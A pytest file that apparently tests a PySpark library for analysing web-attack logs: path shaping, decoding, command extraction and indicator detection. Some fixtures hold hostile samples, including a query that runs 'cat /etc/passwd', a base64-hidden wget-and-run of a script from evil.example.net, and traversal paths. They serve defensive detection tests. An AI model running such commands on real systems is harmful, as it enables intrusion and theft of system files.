"""Edge cases of operators on small tables, against plain Python."""

import random

import pytest
from pyspark.sql import functions as F

from harrow.functions import columns as C
from harrow.operators import evidence as E
from harrow.operators import filters as P
from harrow.operators import joins as J
from harrow.operators import linking as L
from harrow.operators import stats as S
from harrow.operators.graph import components
from harrow.sources import readers, writers


def one(spark, value, expression, kind="string"):
    return spark.createDataFrame([(value,)], f"v {kind}").select(expression(F.col("v")).alias("o")).first()["o"]


@pytest.mark.parametrize(
    ("path", "shape"),
    [
        ("/a/123/b?x=1", "/a/{n}/b"),
        ("/A//B/", "/a/b"),
        ("/u/550e8400-e29b-41d4-a716-446655440000.json", "/u/{uuid}.json"),
        ("/f/deadbeef01", "/f/{hex}"),
        ("/12345678", "/{n}"),
        ("/k/a8f3k29dk3l1z", "/k/{rand}"),
        ("/k/aZkQxLmPwRtY", "/k/{rand}"),
        ("/k/aZkQxLmPwRtY.JSP", "/k/{rand}.jsp"),
        ("/A8F3C2D1.PHP", "/{hex}.php"),
        ("/ReportServerPages", "/reportserverpages"),
        ("/WebResource", "/webresource"),
        ("/.ENV", "/.env"),
        ("/v/1.2.3", "/v/1.2.3"),
        ("/%2e%2e/etc", "/../etc"),
        ("", "/"),
        (None, None),
    ],
)
def test_path_shape(spark, path, shape):
    assert one(spark, path, C.path_shape) == shape


def test_path_shape_is_cut_in_bytes(spark):
    out = one(spark, "/" + "é" * 900, C.path_shape)
    assert len(out.encode()) <= 512 and out.startswith("/éé") and len(out.encode()) > 500


@pytest.mark.parametrize(("text", "plain"), [("a+b%20c", "a b c"), ("100%", "100%"), ("%2525", "%"), ("%c0%ae", "."), ("%u0041", "A"), ("%zz", "%zz")])
def test_normalize_text(spark, text, plain):
    assert one(spark, text, C.normalize_text) == plain


def test_keys(spark):
    assert one(spark, "10.0.0.1", C.ip_key) == "00000000000000000000ffff0a000001"
    assert one(spark, "::ffff:10.0.0.1", C.ip_key) == one(spark, "10.0.0.1", C.ip_key)
    assert one(spark, "2001:db8::1", C.ip_key) == "20010db8000000000000000000000001"
    assert one(spark, "2001:db8::1", lambda c: C.source_key(C.ip_key(c))) == "20010db8" + "0" * 24
    low, high = C.net_range(F.lit("10.0.0.0/8"))
    assert spark.range(1).select(low.alias("l"), high.alias("h")).first()[:] == ("00000000000000000000ffff0a000000", "00000000000000000000ffff0affffff")


def test_command_order(spark):
    rows = [("x=1&c=2", "cmd=3", "3"), ("shell=a%20b&run=%41+c", None, "A c"), ("cmd", "c=1", ""), ("acmd=1", None, None), ("cmd=%zz", None, "%zz"), ("cmd=" + "é" * 200, None, "é" * 128)]
    df = spark.createDataFrame(rows, "q string, b string, want string")
    for r in df.select("want", C.extract_command(F.col("q"), F.col("b")).alias("got")).collect():
        assert r["got"] == r["want"]


def test_command(spark):
    row = spark.createDataFrame([("x=1&cmd=cat%20/etc/passwd", None), ("", "c=/bin/ls"), (None, None)], "q string, b string")
    out = [r["v"] for r in row.select(C.command_verb(C.extract_command(F.col("q"), F.col("b"))).alias("v")).collect()]
    assert out == ["cat", "ls", "other"]


def test_as_of(spark):
    requests = spark.createDataFrame([(1, 10, 5), (2, 10, 20), (3, 10, 20), (4, 11, 1), (5, 12, 1)], "id long, ip long, t long")
    log = spark.createDataFrame([(10, 10, 1, "a"), (10, 20, 2, "b"), (10, 20, 3, "c"), (11, 9, 4, "d")], "ip long, t long, hlc long, data string")
    assert {r["id"]: r["data"] for r in J.enrich_as_of(requests, log).collect()} == {1: "a", 2: "c", 3: "c", 4: "d", 5: None}


def test_hard_edges_cap(spark):
    rows = [("k", "v50", i) for i in range(50)] + [("k", "v51", 100 + i) for i in range(51)]
    s = spark.createDataFrame(rows, "kind string, value string, ip long")
    assert J.hard_edges(s).count() == 50 * 49 // 2
    assert [r["value"] for r in J.excluded_values(s).collect()] == ["v51"]


def brute_components(edges):
    root = {}

    def find(x):
        root.setdefault(x, x)
        while root[x] != x:
            x = root[x]
        return x

    for a, b in edges:
        x, y = sorted((find(a), find(b)))
        root[y] = x
    return {x: find(x) for x in root}


@pytest.mark.parametrize("edges", [[], [(i, i + 1) for i in range(40)], [(0, i) for i in range(1, 30)], [(random.Random(3).randrange(k + 1), k + 5) for k in range(60)], [(4, 4)]])
def test_components(spark, edges):
    df = spark.createDataFrame(edges, "a long, b long")
    found = {r["node"]: r["root"] for r in components(df).collect()}
    assert found == {k: v for k, v in brute_components([e for e in edges if e[0] != e[1]]).items() if k != v}


def test_guarded_merge(spark):
    hard = spark.createDataFrame([(1, 1), (2, 1), (5, 5), (6, 5), (9, 9), (10, 9)], "ip long, grp long")
    soft = spark.createDataFrame([(1, 5), (2, 6), (6, 9), (20, 21), (20, 1)], "a long, b long")
    found = {r["ip"]: r["grp"] for r in L.guarded_merge(hard, soft).collect()}
    # 1-5 has two links and merges; 9 has one and is withheld; single sources need one link
    assert found[5] == found[1] == found[6] and found[9] == found[10] == 9 and found[20] == found[21] == found[1]


def test_medians(spark):
    values = spark.createDataFrame([(v,) for v in (1, 2, 3, 4)], "v long")
    assert values.agg(S.upper_median("v").alias("m")).first()["m"] == 3


def test_quorum_and_pool(spark):
    answers = spark.createDataFrame([("q", "a", "x"), ("q", "a", "x"), ("q", "b", "x"), ("q", "c", "y")], "question string, node string, value string")
    assert {(r["value"], r["votes"], r["agreed"]) for r in S.quorum_tally(answers).collect()} == {("x", 2, True), ("y", 1, False)}
    day = spark.createDataFrame([(1, m) for m in "abc"], "day long, member string")
    assert {r["member"]: r["share"] for r in S.pool_split(day, 11).collect()} == {"a": 4, "b": 4, "c": 3}


def test_collapse(spark):
    listed = spark.createDataFrame([(i, i // 10) for i in (1, 2, 3, 11, 12, 21, 22, 23)], "ip long, net long")
    spared = spark.createDataFrame([(2,)], "net long")
    assert {tuple(r) for r in E.collapse_networks(listed, spared, "net").collect()} == {("0", True), *[(str(i), False) for i in (11, 12, 21, 22, 23)]}


def test_indicators_open_layers(spark):
    import base64

    hidden = base64.b64encode(b"wget http://evil.example.net/x.sh; sh x.sh").decode()
    df = spark.createDataFrame([(1, f"cmd={hidden}"), (2, "nothing here"), (3, None), (4, "curl%20http%3A%2F%2Fa.test%2Fb")], "id long, text string")
    found = {(r["id"], r["kind"], r["value"]) for r in E.extract_indicators(df, "text", ["id"], ()).collect()}
    assert {(1, "tool", "wget"), (1, "host", "evil.example.net"), (4, "host", "a.test"), (4, "tool", "curl")} <= found
    assert not [x for x in found if x[0] in (2, 3)]


def test_csv_cells(spark):
    row = spark.createDataFrame([("=1+1", bytearray(b"ab"), ["x"])], "s string, b binary, a array<string>")
    assert row.select(*[writers.csv_cell(F.col(c), k).alias(c) for c, k in row.dtypes]).first()[:] == ("'=1+1", "YWI=", '["x"]')


RULE = '[[rule]]\nlabel = "{label}"\nweight = {weight}\n{rest}\n'


def test_rules(tmp_path, spark):
    (tmp_path / "a.toml").write_text(RULE.format(label="x", weight=2, rest='target_regex = "a"\nowasp = ["A03:2021", "OAT-014"]') + RULE.format(label="m", weight=1, rest='methods = ["PUT"]'))
    rules = readers.load_rules(spark, str(tmp_path))
    assert [r["label"] for r in rules] == ["x", "m"]
    assert [r["matchers"] for r in readers.rules_table(spark, rules).orderBy("position").collect()] == [["target_regex"], ["methods"]]


@pytest.mark.parametrize(("weight", "rest"), [(9, 'target_regex = "a"'), (2, ""), (2, 'unless_target_regex = "a"'), (2, 'target = "a"'), (2, "methods = []"), (2, 'methods = ["a b"]'), (2, 'path_exact = "/"\nowasp = ["A11:2021"]'), (2, 'path_exact = "/"\nowasp = ["OAT-14"]')])
def test_bad_rules(tmp_path, spark, weight, rest):
    (tmp_path / "b.toml").write_text(RULE.format(label="y", weight=weight, rest=rest))
    with pytest.raises(ValueError):
        readers.load_rules(spark, str(tmp_path))


def test_catalogues(tmp_path, spark):
    (tmp_path / "devices.toml").write_text('[[device]]\nid = "cam"\nkind = "cpe"\nservice = "^rtsp$"\nports = [554]\n')
    (tmp_path / "names.toml").write_text('[[pool]]\nid = "dyn"\npattern = "dyn"\n')
    assert readers.load_devices(spark, str(tmp_path / "devices.toml"))[0]["id"] == "cam"
    assert readers.load_names(spark, str(tmp_path / "names.toml")) == {"pool": [{"id": "dyn", "pattern": "dyn"}]}
    (tmp_path / "devices.toml").write_text('[[device]]\nid = "cam"\nkind = "tv"\nservice = "x"\n')
    with pytest.raises(ValueError):
        readers.load_devices(spark, str(tmp_path / "devices.toml"))


def test_routable(spark):
    df = spark.createDataFrame([("10.1.1.1",), ("8.8.8.8",), ("192.168.0.1",), ("fe80::1",), ("203.0.113.5",)], "ip string").withColumn("ip_key", C.ip_key(F.col("ip")))
    assert {r["ip"] for r in P.routable_only(df).collect()} == {"8.8.8.8", "203.0.113.5"}


def test_numbered(spark):
    df = spark.range(100).select((F.col("id") * 7 % 100).alias("x"))
    assert sorted((r["x"], r["n"]) for r in L.numbered(df, ["x"], "n").collect()) == [(i, i + 1) for i in range(100)]


def test_audits_and_products_hold_no_more_in_a_task_as_tables_grow(spark, monkeypatch):
    """Tables of scans are not sorted for the audits; tasks that count products grow in number with the rows, and a row is not doubled."""
    monkeypatch.setattr(S, "TASK_ROWS", 50)
    scans = spark.createDataFrame([(i, i % 7 if i % 11 else None, f"n{i % 3}") for i in range(60)], "uid long, ip long, origin string")
    ports = [(i, (i * k) % 5 if k else None, "tcp", "closed" if i % 6 == 0 else "open", f"p{k % 3}", "v") for i in range(60) for k in range(4)] * 2
    keys = [(i, (i * k) % 5, "ssh", f"f{k}" if k else None) for i in range(60) for k in range(3)]
    pairs = [(1, 2), (1, 2), (2, 1), (6, 3), (5, 10), (7, 7), (9, None), (None, 4), (8, 48), (11, 21), (99, 3), (13, 23)]
    audits = spark.createDataFrame(pairs, "audit long, original long")
    p, k = spark.createDataFrame(ports, "scan_uid long, port int, proto string, state string, product string, version string"), spark.createDataFrame(keys, "scan_uid long, port int, kind string, fingerprint string")
    open_, ids = {}, {}
    for uid, port, _, state, *_ in ports:
        if state == "open":
            open_.setdefault(uid, set()).add(port)
    for uid, port, kind, print_ in keys:
        if print_ and port in open_.get(uid, ()):
            ids.setdefault(uid, set()).add((port, kind, print_))

    def verdict(x, y):
        a, o, both = len(open_.get(x, ())), len(open_.get(y, ())), len((open_.get(x, set()) & open_.get(y, set())) - {None})
        agrees = ids.get(x, set()) & ids.get(y, set()) and o <= 2 * a or 2 * both >= a and 2 * both >= o
        return "inconclusive" if a == 0 else "agrees" if agrees else "differs"

    compared = S.audit_compare(audits, p, k)
    rows = [tuple(r) for r in compared.collect()]
    assert sorted(rows, key=str) == sorted(((x, y, verdict(x, y)) for x, y in pairs), key=str) and len({r[2] for r in rows}) == 3
    plan = lambda df: df._jdf.queryExecution().executedPlan().toString().split("Initial Plan")[0]
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        assert plan(S.audit_compare(audits, p, k)).count("SortMergeJoin") <= 1 and plan(S.audit_counts(audits.selectExpr("*", "'differs' AS verdict"), scans)).count("SortMergeJoin") == 0
        found = S.products(scans, p)
        assert "Expand" not in plan(found)
    finally:
        spark.conf.unset("spark.sql.autoBroadcastJoinThreshold")
    want = {f"p{k} v": (60, len({i % 7 for i in range(60) if i % 11})) for k in range(3)}
    assert {r["product"]: (r["scans"], r["sources"]) for r in found.collect()} == want
    assert S.parts_for(p) == 10
